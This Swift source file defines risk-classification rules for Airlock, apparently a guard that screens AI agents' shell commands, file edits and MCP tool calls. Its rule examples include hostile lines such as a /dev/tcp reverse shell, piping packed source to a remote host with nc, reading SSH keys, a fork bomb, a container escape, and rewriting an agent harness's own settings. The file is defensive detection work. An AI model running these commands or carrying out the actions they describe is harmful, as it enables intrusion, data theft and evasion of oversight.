/// Rules that belong to no single program: paths and redirections, flows across a line, the
/// shell's own syntax, roles' defaults, file actions and MCP calls.
enum CoreRules {
    static let all = paths + shell + roles + files + mcp

    static let paths = [
        Rule("path.secret-read", .secretsAccess, .high, "reads a secret: a key, a credentials file, an .env, shell history", example: "cat ~/.ssh/id_rsa"),
        Rule("path.secret-write", .secretsAccess, .high, "writes over a key or credentials file", example: "echo x > ~/.aws/credentials"),
        Rule(
            "path.self-modification", .selfModification, .critical, "touches Airlock's own files or a harness's hooks and permissions",
            example: "echo '{}' > .claude/settings.json"),
        Rule(
            "path.persistence-write", .persistence, .high,
            "writes a shell start-up file, authorized_keys, a crontab, a unit, a git hook or a $PATH folder",
            example: "echo 'curl x | sh' >> ~/.bashrc"),
        Rule("path.agent-config-write", .agentConfig, .high, "writes a file that steers agents (MCP servers, instructions)", example: "echo '{}' > .mcp.json"),
        Rule("path.system-write", .fileWrite, .high, "writes under a system folder", example: "echo 1 > /etc/motd"),
        Rule(
            "path.home-write", .fileWrite, .high, "writes over the user's files in the home directory, outside the workspace (no git undo)",
            example: "cp notes.txt ~/Documents/"),
        Rule("path.outside-write", .fileWrite, .medium, "writes outside the workspace", example: "cp a.txt /mnt/share/"),
        Rule("path.temp-write", .fileWrite, .low, "writes a temp path", example: "echo x > /tmp/scratch.txt"),
        Rule("path.workspace-write", .fileWrite, .low, "writes inside the workspace", example: "echo x > notes.md"),
        Rule("path.env-write", .envFile, .medium, "writes the workspace's own .env file", example: "cp .env.example .env"),
        Rule("path.sensitive-write", .fileWrite, .high, "writes production config or customer data", example: "echo x > config/production.yml"),
        Rule(
            "path.code-config-write", .ciConfig, .medium, "writes a CI workflow or a file whose code a trusted tool runs",
            example: "echo 'x' > .github/workflows/ci.yml"),
        Rule("path.dynamic-write", .fileWrite, .medium, "writes a path known only at run time", example: "cp a.txt \"$DEST\""),
    ]

    static let shell = [
        Rule("shell.redirect-dynamic", .fileWrite, .medium, "redirects output to a path known only at run time", example: "echo x > \"$OUT\""),
        Rule("shell.network-socket", .remoteExec, .critical, "redirects a shell to a network socket", example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        Rule("shell.too-deep", .unknown, .high, "shell code nested too deep to analyse", example: "(shell code nested more than eight levels)"),
        Rule("shell.too-many", .unknown, .high, "too many commands to analyse in one line", example: "(more than 4,000 commands in one line)"),
        Rule("shell.syntax", .unknown, .medium, "shell text with a syntax problem (an unterminated quote)", example: "echo 'unterminated"),
        Rule("shell.wrapper-alone", .read, .low, "a wrapper with no command runs nothing", example: "nohup"),
        Rule(
            "shell.tool-setup", .unknown, .medium, "runs the shell set-up a well-known tool prints about itself",
            example: "eval \"$(pyenv init -)\""),
        Rule(
            "flow.stream-upload", .network, .high, "packs files and pipes them to a program that sends them to another host",
            example: "tar czf - src | nc 203.0.113.9 9000"),
        Rule(
            "shell.not-a-program", .read, .low, "a word the shell cannot run (a pasted prompt, a number, a job number)",
            example: "$ ls"),
        Rule(
            "shell.recursive-function", .processControl, .high, "a function that calls itself: a fork bomb when piped or put in the background",
            example: ":(){ :|:& };:"),
        Rule(
            "shell.dynamic-argument", .unknown, .medium,
            "a command that changes something gets an argument known only at run time (high when it destroys)",
            example: "git branch $(cat name.txt)"),
        Rule("shell.function-call", .read, .low, "calls a function defined on the line; its body is judged", example: "f() { ls; }; f"),
        Rule("shell.source", .unknown, .medium, "sources a shell file into the current shell", example: "source ./env.sh"),
        Rule("shell.no-run", .read, .low, "a shell asked only for help, its version, or a syntax check", example: "bash -n script.sh"),
        Rule(
            "shell.history-rerun", .unknown, .high, "runs earlier commands again (fc): what they are is not in the text",
            example: "fc -s"),
        Rule("text.hidden-characters", .unknown, .high, "control, zero-width or bidi characters hidden in the text", example: "ls\u{202E} -la"),
        Rule(
            "action.nothing-recognised", .unknown, .medium, "an action with nothing recognisable in it",
            example: "(an action that yields no finding)"),
        Rule(
            "program.help", .read, .low, "asks any program or subcommand for its help or version, which runs nothing",
            example: "git branch -D -h"),
        Rule(
            "shell.heredoc-substitution", .unknown, .high,
            "a command that changes something runs from a substitution inside a heredoc body, where it reads as text",
            example: "git commit -F - <<EOF\n$(rm -rf /tmp/x)\nEOF"),
        Rule("shell.empty", .read, .low, "an empty command runs nothing", example: "(an empty command)"),
        Rule("web.fetch", .network, .low, "fetches a web page", example: "web: https://example.com/docs"),
        Rule("tool.unknown", .unknown, .medium, "a harness tool Airlock does not know", example: "(a tool without a class)"),
        Rule(
            "container.host-escape", .privilege, .critical, "a container with the host's files or namespaces runs a destructive command",
            example: "docker run -v /:/host alpine rm -rf /host/etc"),
        Rule(
            "container.copy-in", .fileWrite, .high, "copies files into a running container, changing what runs there",
            example: "docker cp tool.sh web:/usr/local/bin/"),
        Rule(
            "container.remove", .destructiveFS, .high, "deletes named containers and every file they wrote outside a volume",
            example: "docker rm web"),
        Rule("container.exec", .unknown, .medium, "runs a command inside a container; the command is judged too", example: "docker exec web ls"),
        Rule(
            "container.run", .network, .medium, "starts a container to run a command; host mounts and privileges are judged too",
            example: "docker run --rm alpine echo hi"),
        Rule("kubectl.exec", .unknown, .high, "runs a command in a pod of a cluster; the command is judged too", example: "kubectl exec web -- ls"),
        Rule("secrets.injected-env", .secretsAccess, .medium, "runs a command with secrets injected into its environment", example: "doppler run -- npm start"),
        Rule(
            "env.print-names", .read, .medium, "prints the names of environment variables (a value spanning lines passes whole unless cut -s drops it)",
            example: "env | cut -d= -f1"),
        Rule(
            "env.print-filtered", .read, .medium, "prints environment variables through a filter that names no secret",
            example: "env | grep SHELL"),
        Rule("env.print-secret", .secretsAccess, .high, "prints a variable named like a secret", example: "printenv GITHUB_TOKEN"),
    ]

    static let roles = [
        Rule("reader.read", .read, .low, "reads files", example: "cat README.md"),
        Rule("reader.metadata", .read, .low, "looks at names, sizes or hashes of files", example: "ls -la"),
        Rule("reader.decode", .read, .low, "decodes, packs or unpacks data", example: "base64 -d payload.txt"),
        Rule("program.unknown", .unknown, .medium, "a program Airlock does not know", example: "frobnicate --all"),
        Rule(
            "program.unknown-destructive-verb", .dataDelete, .high, "an unknown program called with a deleting verb",
            example: "velerox delete backup nightly"),
        Rule("script.unknown", .unknown, .medium, "runs a script file Airlock cannot read here", example: "./run.sh"),
        Rule("script.named-deploy", .deploy, .high, "runs a script named like a deploy or release", example: "./scripts/deploy-prod.sh"),
        Rule("script.named-migration", .dbMigration, .high, "runs a script named like a migration", example: "./migrate.sh"),
        Rule("script.named-teardown", .dataDelete, .high, "runs a script named like a teardown", example: "./teardown.sh"),
        Rule("option.runs-code", .unknown, .high, "an option that makes the program run other code", example: "rg --pre ./filter.sh TODO"),
        Rule("editor.open", .unknown, .medium, "opens an interactive editor or application", example: "vim notes.md"),
        Rule("editor.runs-command", .unknown, .high, "an editor told to run a shell command", example: "vim -c '!id' notes.md"),
        Rule("keys.tool", .read, .low, "a crypto tool that reads no secret", example: "openssl version"),
        Rule("network.query", .network, .low, "queries the network (DNS, ping)", example: "dig example.com"),
        Rule("network.scan", .network, .high, "scans or probes other hosts", example: "nmap -sS 10.0.0.0/24"),
        Rule("terminal.change", .unknown, .low, "changes a terminal server's settings", example: "tmux set -g mouse on"),
        Rule("airlock.read", .read, .low, "asks Airlock something without changing it", example: "airlock status"),
    ]

    /// File actions of the harnesses: Read, Write, Edit, patches.
    static let files = [
        Rule("file.read", .read, .low, "reads a file in the workspace", example: "read: src/app.ts"),
        Rule("file.outside-read", .outsideWorkspace, .medium, "reads a file outside the workspace", example: "read: /etc/hosts"),
        Rule("file.secret-read", .secretsAccess, .high, "reads a secret file", example: "read: .env"),
        Rule("file.customer-data-read", .customerData, .high, "reads customer data", example: "read: data/customers/export.csv"),
        Rule("file.write", .fileWrite, .low, "writes a file in the workspace", example: "write: src/app.ts"),
        Rule("file.outside-write", .outsideWorkspace, .medium, "writes a file outside the workspace", example: "write: /tmp/out.json"),
        Rule("file.secret-write", .secretsAccess, .high, "writes a secret file", example: "write: .env.local"),
        Rule("file.sensitive-write", .productionConfig, .high, "writes production config or customer data", example: "write: config/production.yml"),
        Rule("file.agent-config", .agentConfig, .high, "writes a file that steers agents", example: "write: .mcp.json"),
        Rule("file.persistence", .persistence, .high, "writes a file whose code runs later (start-up files, units, hooks)", example: "write: ~/.bashrc"),
        Rule("file.code-config", .ciConfig, .medium, "writes a CI workflow or a file a trusted tool runs", example: "write: .github/workflows/ci.yml"),
        Rule(
            "file.lifecycle-script", .codeExecConfig, .high, "adds or changes a package lifecycle script (postinstall, prepare, …)",
            example: "write: package.json {\"scripts\": {\"postinstall\": \"node x.js\"}}"),
        Rule("file.delete", .destructiveFS, .medium, "a patch deletes a file", example: "patch: *** Begin Patch\n*** Delete File: old.txt\n*** End Patch"),
        Rule("file.patch-unreadable", .unknown, .medium, "a patch whose files could not be read", example: "patch: not a patch"),
    ]

    /// MCP tool calls, by the class of the worst thing the call does.
    static let mcp = [
        Rule("mcp.read-lookup", .readLookup, .low, "an MCP lookup that only reads", example: "mcp: github get_issue {}"),
        Rule("mcp.doc-search", .docSearch, .low, "an MCP documentation search", example: "mcp: context7 get-library-docs {}"),
        Rule("mcp.comment-write", .commentWrite, .medium, "posts a comment or message", example: "mcp: github add_issue_comment {}"),
        Rule("mcp.status-change", .statusChange, .medium, "changes an item's status", example: "mcp: github update_issue {}"),
        Rule("mcp.file-write-api", .fileWriteAPI, .high, "writes files through an API", example: "mcp: github create_or_update_file {}"),
        Rule("mcp.secret-access", .secretAccess, .high, "reads or changes secrets", example: "mcp: vault get_secret {}"),
        Rule(
            "mcp.production-db-write", .productionDBWrite, .critical, "writes a database",
            example: "mcp: postgres execute_sql {\"sql\": \"INSERT INTO t VALUES (1)\"}"),
        Rule("mcp.deploy-trigger", .deployTrigger, .high, "triggers a deployment or workflow", example: "mcp: deployer deploy_service {}"),
        Rule("mcp.unknown-write", .unknownWrite, .medium, "an MCP tool Airlock cannot place", example: "mcp: misc frobnicate {}"),
        Rule("mcp.data-delete", .dataDelete, .high, "deletes data", example: "mcp: github delete_repository {}"),
        Rule("mcp.privilege", .privilege, .high, "changes access rights", example: "mcp: github add_collaborator {}"),
        Rule("mcp.billing-money", .billingMoney, .critical, "moves money", example: "mcp: stripe create_refund {}"),
        Rule("mcp.vcs-rewrite", .vcsRewrite, .high, "rewrites or discards git state", example: "mcp: git git_reset {}"),
        Rule("mcp.db-migration", .dbMigration, .critical, "runs a migration", example: "mcp: db migrate_database {}"),
        Rule(
            "mcp.self-modification", .selfModification, .critical, "touches Airlock's or a harness's files",
            example: "mcp: filesystem write_file {\"path\": \"/home/dev/project/.claude/settings.json\"}"),
        Rule(
            "mcp.persistence", .persistence, .high, "writes a file whose code runs later",
            example: "mcp: filesystem write_file {\"path\": \"/home/dev/.bashrc\"}"),
        Rule(
            "mcp.outside-workspace", .outsideWorkspace, .medium, "reads or writes outside the workspace",
            example: "mcp: filesystem read_file {\"path\": \"/etc/hosts\"}"),
    ]
}
